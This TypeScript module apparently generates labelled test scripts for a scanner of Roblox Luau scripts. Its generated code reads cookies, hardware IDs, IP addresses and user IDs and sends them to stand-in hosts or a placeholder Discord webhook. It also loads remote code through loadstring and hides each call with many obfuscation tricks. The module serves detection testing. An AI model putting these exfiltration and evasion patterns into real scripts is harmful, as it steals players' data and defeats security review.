// Scripts that do something with data which they take from somewhere, by ways that hide it. Deterministic by their seed.
import type { CapabilityId } from '../src/index.ts'

export interface GeneratedScript {
  name: string
  code: string
  /** What the script does: found, or the card says that something could not be followed. */
  does: CapabilityId[]
}

/** Numbers from 0 to 1 (mulberry32). */
function makeRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d_2b_79_f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

interface Source {
  before?: string
  value: string
  /** Whether it is data about the player. */
  isPersonal?: true
}

const SOURCES: Record<string, Source> = {
  'player name': { value: 'game:GetService("Players").LocalPlayer.Name', isPersonal: true },
  'display name': { value: 'game.Players.LocalPlayer.DisplayName', isPersonal: true },
  'user id': { value: 'tostring(game.Players.LocalPlayer.UserId)', isPersonal: true },
  'account age': { value: 'game.Players.LocalPlayer.AccountAge', isPersonal: true },
  'full name': { value: 'game.Players.LocalPlayer:GetFullName()', isPersonal: true },
  'character name': { value: 'game.Players.LocalPlayer.Character:GetFullName()', isPersonal: true },
  'head of the character': { value: 'game.Players.LocalPlayer.Character.Head.Parent.Name', isPersonal: true },
  'camera subject': { value: 'workspace.CurrentCamera.CameraSubject.Parent.Name', isPersonal: true },
  'name from id': { value: 'game.Players:GetNameFromUserIdAsync(1)', isPersonal: true },
  'all players': { value: 'game.Players:GetPlayers()[1].Name', isPersonal: true },
  'text of the player': { value: 'tostring(game.Players.LocalPlayer)', isPersonal: true },
  'job id': { value: 'game.JobId', isPersonal: true },
  'hardware id': { value: 'gethwid()', isPersonal: true },
  'client id': { value: 'game:GetService("RbxAnalyticsService"):GetClientId()', isPersonal: true },
  'IP address': { value: 'game:HttpGet("https://api.ipify.org")', isPersonal: true },
  cookie: { value: 'getcookie()', isPersonal: true },
  'property by a computed name': {
    before: 'local key = ({"Name", "UserId"})[game.PlaceId % 2 + 1]',
    value: 'tostring(game.Players.LocalPlayer[key])',
    isPersonal: true,
  },
  'property by an unknown name': {
    before: 'local key = workspace.Setting.Value',
    value: 'tostring(game.Players.LocalPlayer[key])',
    isPersonal: true,
  },
  file: { value: 'readfile("a.txt")' },
  'remote text': { value: 'game:HttpGet("https://files.example/a")' },
  'place id': { value: 'tostring(game.PlaceId)' },
  constant: { value: '"text"' },
}

/** How data passes on its way to a sink: an expression of the text `d`. */
const PASSAGES: Record<string, { before?: string; value: string }> = {
  plain: { value: 'd' },
  format: { value: 'string.format("%s-%d", d, 1)' },
  interpolation: { value: '`<{d}>`' },
  json: { value: 'game:GetService("HttpService"):JSONEncode({x = {d}})' },
  upper: { value: 'd:upper():reverse():rep(2)' },
  'gsub with a function': { value: 'd:gsub(".", function(c) return string.format("%02x", c:byte()) end)' },
  'characters in a list': {
    before: 'local parts = {} d:gsub(".", function(c) parts[#parts + 1] = c end)',
    value: 'table.concat(parts)',
  },
  'a loop over characters': {
    before: 'local out = "" for i = 1, #d do out = out .. string.char((d:byte(i) + 1) % 256) end',
    value: 'out',
  },
  'a map of characters': {
    before: 'local map = {a = "1", b = "2"} local out = "" for c in d:gmatch(".") do out = out .. (map[c] or c) end',
    value: 'out',
  },
  'a closure': { before: 'local function get() return d end', value: 'get()' },
  'an object': {
    before: 'local Box = {} Box.__index = Box function Box.new(v) return setmetatable({v = v}, Box) end',
    value: 'Box.new(d).v',
  },
  __tostring: { value: 'tostring(setmetatable({}, {__tostring = function() return d end}))' },
  __concat: { value: '(setmetatable({}, {__concat = function(a, b) return d .. b end}) .. "!")' },
  'a coroutine': { value: 'coroutine.wrap(function() coroutine.yield(d) end)()' },
  pcall: { value: 'select(2, pcall(function() return d end))' },
  'an error': { value: 'select(2, pcall(error, d))' },
  varargs: { value: '(function(...) return (select("#", ...) > 0) and (...) or "" end)(d)' },
  'table.unpack': { value: 'select(-1, table.unpack({1, 2, d}))' },
  'table.sort': { before: 'local list = {d, "a"} table.sort(list)', value: 'list[2]' },
  buffer: { before: 'local b = buffer.create(64) buffer.writestring(b, 0, d)', value: 'buffer.tostring(b)' },
  attribute: { before: 'script:SetAttribute("d", d)', value: 'script:GetAttribute("d")' },
  'a global': { before: '_G.d = d', value: '_G.d' },
  'an upvalue': { before: 'local x = "" task.spawn(function() x = d end)', value: 'x' },
}

interface Sink {
  /** Arguments with the text `d` in them. */
  args: string
  ids: CapabilityId[]
  /** A path of globals, or a method of an object. */
  path?: string
  object?: string
  method?: string
  /** Whether it sends the data away. */
  isSending?: true
  text?: string
}

const HOOK = `https://discord.com/api/webhooks/123456789012345678/${'AbCdEfGh'.repeat(8)}`

const SINKS: Record<string, Sink> = {
  request: {
    path: 'request',
    args: '{Url = "https://a.example/x", Method = "POST", Body = d}',
    ids: ['net.send'],
    isSending: true,
  },
  'syn.request': {
    path: 'syn.request',
    args: '{Url = "https://a.example/x", Method = "POST", Headers = {a = d}}',
    ids: ['net.send'],
    isSending: true,
  },
  webhook: {
    path: 'http_request',
    args: `{Url = "${HOOK}", Method = "POST", Body = d}`,
    ids: ['net.send', 'net.webhook'],
    isSending: true,
  },
  HttpGet: { object: 'game', method: 'HttpGet', args: '"https://a.example/?" .. d', ids: ['net.get'], isSending: true },
  HttpPost: { object: 'game', method: 'HttpPost', args: '"https://a.example/", d', ids: ['net.send'], isSending: true },
  PostAsync: {
    object: 'game:GetService("HttpService")',
    method: 'PostAsync',
    args: `"${HOOK}", d`,
    ids: ['net.send', 'net.webhook'],
    isSending: true,
  },
  RequestAsync: {
    object: 'game:GetService("HttpService")',
    method: 'RequestAsync',
    args: '{Url = "https://a.example/", Method = "PUT", Body = d}',
    ids: ['net.send'],
    isSending: true,
  },
  writefile: { path: 'writefile', args: '"a.txt", d', ids: ['fs.write'] },
  delfile: { path: 'delfile', args: '"a.txt"', ids: ['fs.delete'] },
  setclipboard: { path: 'setclipboard', args: 'd', ids: ['user.clipboard'] },
  loadstring: { path: 'loadstring', args: 'game:HttpGet("https://a.example/x")', ids: ['code.remote'] },
  queue_on_teleport: { path: 'queue_on_teleport', args: '"print(1)"', ids: ['code.persist'] },
  purchase: {
    object: 'game:GetService("MarketplaceService")',
    method: 'PromptPurchase',
    args: 'game.Players.LocalPlayer, 1',
    ids: ['user.purchase'],
  },
  teleport: { object: 'game:GetService("TeleportService")', method: 'Teleport', args: '1', ids: ['game.teleport'] },
  kick: { object: 'game.Players.LocalPlayer', method: 'Kick', args: '"no"', ids: ['game.kick'] },
  socket: { path: 'WebSocket.connect', args: '"wss://a.example/"', ids: ['net.socket'] },
  require: { path: 'require', args: '1234567', ids: ['code.asset'] },
  asset: { object: 'game', method: 'GetObjects', args: '"rbxassetid://1"', ids: ['code.asset'] },
  keypress: { path: 'keypress', args: '65', ids: ['user.input'] },
  getgc: { path: 'getgc', args: 'true', ids: ['client.inspect'] },
}

/** Ways to choose and hide a function: `F` is the function, `A` its arguments. */
const WAYS: Record<string, string> = {
  direct: 'F(A)',
  alias: 'local f = F\nf(A)',
  'and/or': 'local f = game.PlaceId == 1 and print or game.PlaceId == 2 and F or warn\nf(A)',
  'or at the end': 'local f = game.PlaceId ~= 2 and print or F\nf(A)',
  'not and or': 'local f = not game:IsLoaded() and F or print\nf(A)',
  'and/or of flags': 'local on = game.PlaceId == 3\nlocal f = (on and F) or (not on and print)\nf(A)',
  'if expression': 'local f = if game.PlaceId == 1 then print elseif game.PlaceId == 2 then F else warn\nf(A)',
  'if statement': 'local f = print\nif game.PlaceId == 4 then f = F end\nf(A)',
  'unknown number of a list': 'local list = {print, F, warn}\nlist[game.PlaceId % 3 + 1](A)',
  'unknown name in a table': 'local t = {a = print, b = F, c = warn}\nt[game.Name](A)',
  'unknown key that was written': 'local t = {}\nt[game.PlaceId] = F\nt[142823291](A)',
  'a long list': `local list = {${'print, '.repeat(40)}F}\nlist[game.PlaceId % 41 + 1](A)`,
  'select by an unknown number': 'local f = select(game.PlaceId % 2 + 1, print, F)\nf(A)',
  'select from the end': 'local f = select(-1, print, F)\nf(A)',
  varargs: 'local function call(...) local _, f = ... return f(A) end\ncall(print, F)',
  'table.unpack': 'local _, f = table.unpack({print, F})\nf(A)',
  'table.pack': 'local t = table.pack(print, F)\nt[2](A)',
  'table.remove': 'local t = {print, F}\ntable.remove(t, game.PlaceId % 2 + 1)(A)',
  'table.insert': 'local t = {print}\ntable.insert(t, game.PlaceId % 2 + 1, F)\nt[1](A)',
  'table.move': 'local t = table.move({F}, 1, 1, 3, {print})\nt[3](A)',
  'table.clone': 'table.clone({f = F}).f(A)',
  'table.sort': 'table.sort({F, F, print}, function(f, g) f(A) return false end)',
  'table.foreach': 'table.foreach({print, F}, function(_, f) f(A) end)',
  'table.find': 'local t = {print, F}\nt[table.find(t, F)](A)',
  next: 'local _, f = next({F})\nf(A)',
  pairs: 'for _, f in pairs({print, F}) do f(A) end',
  'a list in a loop': 'for _, f in {print, warn, F} do f(A) end',
  'unknown list in a loop': 'local t = {} t[game.PlaceId] = F\nfor _, f in t do f(A) end',
  'an iterator': 'local i = 0\nfor f in function() i += 1 return ({print, warn, F})[i] end do f(A) end',
  'an iterator of a coroutine':
    'for f in coroutine.wrap(function() coroutine.yield(print) coroutine.yield(F) end) do f(A) end',
  __iter: 'for f in setmetatable({}, {__iter = function() return next, {[F] = 1} end}) do f(A) end',
  '__index function':
    'local t = setmetatable({}, {__index = function(_, k) return k == game.Name and F or print end})\nt.x(A)',
  '__index table': 'local t = setmetatable({}, {__index = {x = F}})\nt.x(A)',
  '__index chain': 'local t = setmetatable({}, {__index = setmetatable({}, {__index = {x = F}})})\nt["x"](A)',
  '__index by an unknown key': 'local t = setmetatable({}, {__index = function() return F end})\nt[game.PlaceId](A)',
  __newindex: 'local s = {}\nlocal t = setmetatable({}, {__newindex = function(_, _, f) s.f = f end})\nt.x = F\ns.f(A)',
  __call: 'setmetatable({}, {__call = function(_, ...) return F(...) end})(A)',
  __concat: 'local t = setmetatable({}, {__concat = function(_, f) f(A) return "" end})\nlocal x = t .. F',
  __add: 'local t = setmetatable({}, {__add = function(_, f) f(A) return 1 end})\nlocal x = t + F',
  __unm: 'local t = setmetatable({f = F}, {__unm = function(self) self.f(A) return 1 end})\nlocal x = -t',
  __len: 'local t = setmetatable({f = F}, {__len = function(self) self.f(A) return 1 end})\nlocal x = #t',
  __eq: 'local m = {__eq = function(a) a.f(A) return true end}\nlocal x = setmetatable({f = F}, m) == setmetatable({f = print}, m)',
  __lt: 'local m = {__lt = function(a) a.f(A) return true end}\nlocal x = setmetatable({f = F}, m) < setmetatable({f = print}, m)',
  __tostring: 'tostring(setmetatable({f = F}, {__tostring = function(self) self.f(A) return "" end}))',
  newproxy: 'local p = newproxy(true)\ngetmetatable(p).__index = function() return F end\np.x(A)',
  'task.spawn': 'if game.PlaceId == 1 then task.spawn(F, A) end',
  'task.defer': 'if game.PlaceId == 1 then task.defer(F, A) end',
  'task.delay': 'if game.PlaceId == 1 then task.delay(1, F, A) end',
  'task chosen': 'local go = task[game.PlaceId == 1 and "spawn" or "defer"]\ngo(F, A)',
  'unknown function of task': 'task[workspace.Name](F, A)',
  spawn: 'spawn(function() F(A) end)',
  delay: 'delay(1, function() F(A) end)',
  'coroutine.wrap': 'coroutine.wrap(F)(A)',
  'coroutine.resume': 'coroutine.resume(coroutine.create(F), A)',
  'spawned coroutine': 'task.spawn(coroutine.create(F), A)',
  'resumed with a function': 'local co = coroutine.wrap(function() local f = coroutine.yield() f(A) end)\nco()\nco(F)',
  yielded: 'local co = coroutine.wrap(function() coroutine.yield(print) coroutine.yield(F) end)\nco()\nco()(A)',
  pcall: 'pcall(F, A)',
  'nested pcall': 'pcall(pcall, F, A)',
  xpcall: 'xpcall(F, warn, A)',
  'handler of xpcall': 'xpcall(function() error(F) end, function(f) f(A) end)',
  'an error as value': 'local _, f = pcall(error, F)\nf(A)',
  'an error in a table': 'local _, e = pcall(function() error({f = F}) end)\ne.f(A)',
  gsub: 'local x = ("x"):gsub("x", function() F(A) end)',
  'gsub on unknown text': 'game.Name:gsub(".", function() F(A) end)',
  Connect: 'game:GetService("RunService").Heartbeat:Connect(function() F(A) end)',
  Once: 'game.Players.PlayerAdded:Once(function() F(A) end)',
  'Connect of the function': 'workspace.ChildAdded:Connect(function(...) return F(A) end)',
  'changed property': 'workspace:GetPropertyChangedSignal("Gravity"):Connect(function() F(A) end)',
  BindAction: 'game:GetService("ContextActionService"):BindAction("x", function() F(A) end, false, Enum.KeyCode.E)',
  BindToRenderStep: 'game:GetService("RunService"):BindToRenderStep("x", 1, function() F(A) end)',
  BindToClose: 'game:BindToClose(function() F(A) end)',
  'chat handler': 'game.Players.LocalPlayer.Chatted:Connect(function(m) if m == "go" then F(A) end end)',
  OnInvoke: 'local b = Instance.new("BindableFunction")\nb.OnInvoke = function(f) return f(A) end\nb:Invoke(F)',
  BindableEvent: 'local b = Instance.new("BindableEvent")\nb.Event:Connect(function(f) f(A) end)\nb:Fire(F)',
  'BindableEvent with a table':
    'local b = Instance.new("BindableEvent")\nb.Event:Connect(function(t) t.f(A) end)\nb:Fire({f = F})',
  'changed by task.spawn': 'local f = print\ntask.spawn(function() f = F end)\nf(A)',
  'changed by task.defer': 'local f = print\ntask.defer(function() f = F end)\ntask.wait()\nf(A)',
  'changed by a handler':
    'local f = print\nworkspace.ChildAdded:Connect(function() f = F end)\nworkspace.ChildRemoved:Connect(function() f(A) end)',
  'changed by a later handler':
    'local f = print\nworkspace.ChildRemoved:Connect(function() f(A) end)\nworkspace.ChildAdded:Connect(function() f = F end)',
  'changed after waiting': 'local f = print\ntask.delay(1, function() f(A) end)\nf = F',
  'changed for a function':
    'local f = print\nlocal function go(x) f(A) end\ngo(workspace) go(workspace) f = F go(workspace)',
  'changed for an unknown argument':
    'local f = print\nlocal function go(x) f(A) end\nfor _, x in workspace:GetChildren() do go(x) end\ngo(workspace.Name) go(workspace.Name)\nf = F\ngo(workspace.Name)',
  'changed in a loop': 'local f = print\nfor i = 1, 10 do if i == 7 then f = F end f(A) end',
  'changed in an unknown loop': 'local f = print\nwhile task.wait() do f(A) f = F end',
  'counted in a waiting loop': 'local n, f = 0, print\nwhile task.wait() do n += 1 if n == 50 then f = F end f(A) end',
  'counted in a chain': 'local f, g, h = print, print, F\nwhile task.wait() do f(A) f = g g = h end',
  'a long loop': 'local n = 0\nfor i = 1, 300000 do n = (n * 7 + i) % 65521 end\nif n == game.PlaceId then F(A) end',
  'chosen by a long loop':
    'local n = 0\nfor i = 1, 300000 do n = (n * 7 + i) % 65521 end\n({[0] = print, F})[n % 2](A)',
  'functions made by one':
    'local function make(f) return function(x) return f(A) end end\nlocal a, b, c = make(print), make(warn), make(F)\na(workspace) b(workspace) c(workspace)',
  'exported functions made by one':
    'local function make(f) return function() return f(A) end end\nreturn {a = make(print), b = make(warn), c = make(F)}',
  recursion: 'local function go(n, f) if n == 0 then return f(A) end return go(n - 1, f) end\ngo(50, F)',
  'deep recursion': 'local function go(n, f) if n == 0 then return f(A) end return go(n - 1, f) end\ngo(500, F)',
  'continuation passing': 'local function id(f, k) return k(f) end\nid(F, function(f) id(f, function(g) g(A) end) end)',
  'an early return': 'if game.PlaceId ~= 1 then return end\nF(A)',
  'an early error': 'if game.PlaceId ~= 1 then error("no") end\nF(A)',
  'a known return': 'local debugging = true\nif debugging then return end\nF(A)',
  'after a loop that returns':
    'local function go() for _, x in workspace:GetChildren() do if x.Name == "a" then return x end end F(A) end\ngo()',
  'a missing result': 'local function get() if game.PlaceId == 1 then return print end end\nlocal f = get() or F\nf(A)',
  'continue and break': 'for _, x in workspace:GetChildren() do if x.Name == "a" then continue end F(A) break end',
  'repeat until': 'local done repeat F(A) done = task.wait() until done',
  'never called': 'local function go() F(A) end',
  'a class':
    'local C = {} C.__index = C\nfunction C.new(f) local self = setmetatable({}, C) self.f = f return self end\nfunction C:go() self.f(A) end\nC.new(F):go()',
  inheritance:
    'local P = {} P.__index = P function P:go() self.f(A) end\nlocal C = setmetatable({}, P) C.__index = C\nlocal o = setmetatable({f = F}, C)\no:go()',
  setfenv: 'local function go() doit(A) end\nsetfenv(go, {doit = F})\ngo()',
  'global alias': 'getgenv().doit = F\ndoit(A)',
  'global in _G': '_G.doit = F\n_G.doit(A)',
  'unknown global': 'getgenv()[game.Name] = F\ngetgenv()[game.Name](A)',
  hookfunction: 'hookfunction(warn, F)\nwarn(A)',
  newcclosure: 'newcclosure(F)(A)',
  'debug.getupvalue': 'local f = F\nlocal function g() return f end\ndebug.getupvalue(g, 1)(A)',
  'replaced member of a library': 'math.doit = F\nmath.doit(A)',
  'loaded text': 'loadstring([==[local d = ...\nF(A)]==])(d)',
  'loaded text that is chosen': 'loadstring(game.PlaceId == 1 and "print(1)" or [==[local d = ...\nF(A)]==])(d)',
}

/** Expressions that give the function `F`, or perhaps another one. */
const CHOICES: Record<string, string> = {
  itself: 'F',
  'and/or': 'game.PlaceId == 1 and print or game.PlaceId == 2 and F or warn',
  'if expression': 'if game.PlaceId == 1 then F else print',
  list: '({print, F})[game.PlaceId % 2 + 1]',
  select: '(select(2, print, F))',
  index: 'setmetatable({}, {__index = function() return F end}).x',
  call: 'setmetatable({}, {__call = function(_, ...) return F end})(1)',
  varargs: '(function(...) return (select(-1, ...)) end)(print, F)',
  coroutine: 'coroutine.wrap(function() return F end)()',
  pcall: '(select(2, pcall(function() return F end)))',
  error: '(select(2, pcall(error, F)))',
  global: '(function() _G.chosen = F return _G.chosen end)()',
  upvalue: '(function() local x = print task.spawn(function() x = F end) return x end)()',
  'a chain of tables': '({a = {b = {c = F}}}).a.b.c',
}

/** Ways to write a text, such as the name of a function, so that it is not known. `K` is a known text, `N` its bytes. */
const SPELLINGS: Record<string, string> = {
  constant: 'local s = K',
  concatenation: 'local s = "" for _, p in {CHARS} do s = s .. p end',
  bytes: 'local s = "" for _, b in {N} do s = s .. string.char(b) end',
  'table.concat': 'local t = {} for i, b in {N} do t[i] = string.char(b) end local s = table.concat(t)',
  reverse: 'local s = string.reverse(R)',
  gsub: 'local s = string.gsub("X" .. K, "X", "")',
  format: 'local s = string.format("%s", K)',
  'a buffer':
    'local b = buffer.create(LENGTH) for i, v in {N} do buffer.writeu8(b, i - 1, v) end local s = buffer.tostring(b)',
  bit32: 'local s = "" for _, b in {X} do s = s .. string.char(bit32.bxor(b, 42)) end',
  utf8: 'local s = utf8.char(N)',
  'a function for each byte':
    'local s = "" local function add(_, b) s = s .. string.char(b) end for _, b in {N} do add(workspace, b) end',
  'a loop that waits': 'local s, i, c = "", 1, {N} while i <= #c do s = s .. string.char(c[i]) i += 1 task.wait() end',
  'a list filled while waiting':
    'local t, c = {}, {N} repeat t[#t + 1] = string.char(c[#t + 1]) task.wait() until #t == #c local s = table.concat(t)',
  sorted:
    'local t = {SORTED} table.sort(t, function(a, b) return a[1] < b[1] end) local s = "" for _, p in t do s = s .. p[2] end',
  'key of the game': 'local s = "" for _, b in {N} do s = s .. string.char((b + game.PlaceId) % 256) end',
  'key of a service':
    'local k = #game:GetService("Players"):GetPlayers() local s = "" for _, b in {N} do s = s .. string.char((b + k) % 256) end',
  'key of a long loop':
    'local k = 7 for i = 1, 300000 do k = (k * 1103 + 12345) % 65521 end local s = "" for _, b in {N} do s = s .. string.char((b + k) % 256) end',
  'key of a long while loop':
    'local k, i = 7, 0 while i < 300000 do k = (k * 1103 + 12345) % 65521 i += 1 end local s = "" for _, b in {N} do s = s .. string.char((b + k) % 256) end',
  'key of a function in a long loop':
    'local k = 7 local function step() k = (k * 1103 + 12345) % 65521 end for i = 1, 300000 do step() end local s = "" for _, b in {N} do s = s .. string.char((b + k) % 256) end',
  'key of the environment':
    'local k = #tostring(getfenv()) + #tostring(print) local s = "" for _, b in {N} do s = s .. string.char((b + k) % 256) end',
  'key of time': 'local k = os.time() % 2 local s = "" for _, b in {N} do s = s .. string.char((b + k) % 256) end',
  random: 'local s = (K):sub(1, math.random(1, 99))',
  'a chosen text': 'local s = game.PlaceId == 1 and "print" or game.PlaceId == 2 and K or "warn"',
  'one of many': 'local s = ({"a1", "b1", "c1", "d1", "e1", "f1", "g1", "h1", "i1", K})[game.PlaceId % 10 + 1]',
  'value of an object': 'local s = workspace.Setting.Value',
  attribute: 'local s = script:GetAttribute("x")',
  'remote text': 'local s = game:HttpGet("https://files.example/a")',
}

/** Where a function is looked up by the text `s`. */
const LOOKUPS_OF_GLOBALS: Record<string, string> = {
  getfenv: 'getfenv()[s]',
  getgenv: 'getgenv()[s]',
  getrenv: 'getrenv()[s]',
  'getfenv of a level': 'getfenv(0)[s]',
  _G: '_G[s]',
  'rawget of getgenv': 'rawget(getgenv(), s)',
  'a metatable over getfenv': 'setmetatable({}, {__index = getfenv()})[s]',
  'a search': '(function() for n, f in pairs(getgenv()) do if n == s then return f end end end)()',
}

const quote = (text: string): string => JSON.stringify(text)
const bytes = (text: string): number[] => [...Buffer.from(text)]

function spell(spelling: string, text: string): string {
  const values: Record<string, string> = {
    K: quote(text),
    N: bytes(text).join(', '),
    R: quote([...text].toReversed().join('')),
    X: bytes(text)
      .map((byte) => byte ^ 42)
      .join(', '),
    CHARS: [...text].map(quote).join(', '),
    LENGTH: String(text.length),
    SORTED: [...text]
      .map((char, index) => `{${index}, ${quote(char)}}`)
      .toReversed()
      .join(', '),
  }
  return spelling.replaceAll(/\b(?:K|N|R|X|CHARS|LENGTH|SORTED)\b(?!")/g, (name) => values[name] ?? name)
}

type Pick = <T>(from: Record<string, T>) => [name: string, value: T]

function capabilitiesOf({ ids, isSending }: Sink, { isPersonal }: Source): CapabilityId[] {
  return isSending && isPersonal ? [...ids, 'net.exfiltration'] : ids
}

/** The data that a script takes from a source, as the variable `d`. */
function readData(pick: Pick): { name: string; source: Source; code: string } {
  const [sourceName, source] = pick(SOURCES)
  const [passageName, passage] = pick(PASSAGES)
  const lines = [source.before, `local d = tostring(${source.value})`, passage.before, `d = ${passage.value}`]
  return {
    name: `${sourceName}, ${passageName}`,
    source,
    code: lines.filter((line) => line !== undefined).join('\n'),
  }
}

/** A function that is chosen, passed on or scheduled. */
function makeChosen(pick: Pick): GeneratedScript {
  const data = readData(pick)
  const [sinkName, sink] = pick(SINKS)
  const [wayName, way] = pick(WAYS)
  const [choiceName, choice] = pick(CHOICES)
  const { object = '', method = '' } = sink
  // A method is a function that gets its object first.
  const callee = sink.path ?? `object.${method}`
  const chosen = `local chosen = ${choice.replaceAll(/\bF\b/g, callee)}\n`
  const before = `${sink.path ? '' : `local object = ${object}\n`}${chosen}`
  const isText = way.includes('loadstring')
  const args = sink.path ? sink.args : `object, ${sink.args}`
  const code = way
    .replaceAll(/\bF\b/g, 'chosen')
    .replaceAll(/\bA\b/g, () => args)
    .replace('local d = ...', () => `local d = ...\n${before}`)
  return {
    name: `${wayName}; ${choiceName}; ${sinkName}; ${data.name}`,
    code: `${data.code}\n${isText ? '' : before}${code}\n`,
    does: capabilitiesOf(sink, data.source),
  }
}

/** A function whose name is put together. */
function makeSpelled(pick: Pick): GeneratedScript {
  const data = readData(pick)
  const [sinkName, sink] = pick(SINKS)
  const [spellingName, spelling] = pick(SPELLINGS)
  const [lookupName, lookup] = pick(LOOKUPS_OF_GLOBALS)
  const [table, member] = (sink.path ?? '').split('.')
  const callee = sink.path ? `${lookup}${member === undefined ? '' : `.${member}`}` : 'object[s]'
  const lines = [
    data.code,
    ...(sink.path ? [] : [`local object = ${sink.object ?? ''}`]),
    spell(spelling, sink.path ? (table ?? '') : (sink.method ?? '')),
    `if game.PlaceId == 142823291 then ${sink.path ? `local f = ${callee} f(${sink.args})` : `${callee}(object, ${sink.args})`} end`,
  ]
  return {
    name: `${spellingName}; ${sink.path ? lookupName : 'method'}; ${sinkName}; ${data.name}`,
    code: `${lines.join('\n')}\n`,
    does: capabilitiesOf(sink, data.source),
  }
}

/** An address that is put together. */
function makeAddressed(pick: Pick): GeneratedScript {
  const data = readData(pick)
  const [spellingName, spelling] = pick(SPELLINGS)
  const [callName, call] = pick<string>({
    request: 'request({Url = s, Method = "POST", Body = d})',
    'request of a table': 'local o = {} o.Method = "POST" o.Body = d o.Url = s request(o)',
    'request with unknown keys':
      'local o = {} o[({"Url", "url"})[game.PlaceId % 2 + 1]] = s o.Method = "POST" o.Body = d request(o)',
    PostAsync: 'game:GetService("HttpService"):PostAsync(s, d)',
    HttpPost: 'game:HttpPost(s, d)',
  })
  return {
    name: `address: ${spellingName}; ${callName}; ${data.name}`,
    code: `${data.code}\n${spell(spelling, HOOK)}\nif game.PlaceId == 1 then ${call} end\n`,
    does: ['net.send', 'net.webhook', ...(data.source.isPersonal ? (['net.exfiltration'] as const) : [])],
  }
}

/** Code that is put together. */
function makeLoaded(pick: Pick): GeneratedScript {
  const [spellingName, spelling] = pick(SPELLINGS)
  const [sinkName, sink] = pick(SINKS)
  const callee = sink.path ?? `local o = ${sink.object ?? ''} o.${sink.method ?? ''}`
  const text = `local d = "x" ${callee}(${sink.path ? '' : 'o, '}${sink.args})`
  return {
    name: `code: ${spellingName}; ${sinkName}`,
    code: `${spell(spelling, text)}\nif game.PlaceId == 1 then loadstring(s)() end\n`,
    does: sink.ids,
  }
}

const KINDS = [makeChosen, makeChosen, makeChosen, makeSpelled, makeSpelled, makeAddressed, makeLoaded]

/** Distinct scripts, the same for the same seed. */
export function generateScripts(count: number, seed: number): GeneratedScript[] {
  const random = makeRandom(seed)
  const pick: Pick = (from) => {
    const entries = Object.entries(from)
    return entries[Math.floor(random() * entries.length)] as [string, (typeof entries)[number][1]]
  }
  const scripts = new Map<string, GeneratedScript>()
  for (let index = 0; scripts.size < count; index++) {
    const script = (KINDS[index % KINDS.length] ?? makeChosen)(pick)
    scripts.set(script.code, script)
  }
  return [...scripts.values()]
}
